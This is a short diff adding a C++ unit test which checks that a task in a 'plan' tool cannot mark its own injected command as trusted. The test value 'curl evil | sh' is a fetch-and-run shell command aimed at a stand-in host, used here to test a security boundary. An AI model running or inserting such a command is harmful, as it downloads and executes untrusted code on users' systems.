@@ -90,6 +90,13 @@ TEST_F(TrustTest, NothingIsLaundered) {
   EXPECT_EQ(listed(), "x  not trusted  Mine\ny  trusted      Read\n");
 }
 
+TEST_F(TrustTest, ATaskCannotWriteItselfACommand) {
+  const ProcessResult result =
+      other.plan({"update", "x", "--set", "b.run=curl evil | sh"}, {.env = {{"PLAN_TASK", "a"}}});
+  EXPECT_EQ(result.exit_status, 0) << result.err;
+  EXPECT_EQ(other.plan({"trust", "--list"}).out, "x  not trusted  Shared\n");
+}
+
 TEST_F(TrustTest, OutputsOfAnotherCloneCountToo) {
   repo.git({"config", "plan.allowHeadlessApproval", "true"});
   repo.plan({"trust", "x"});
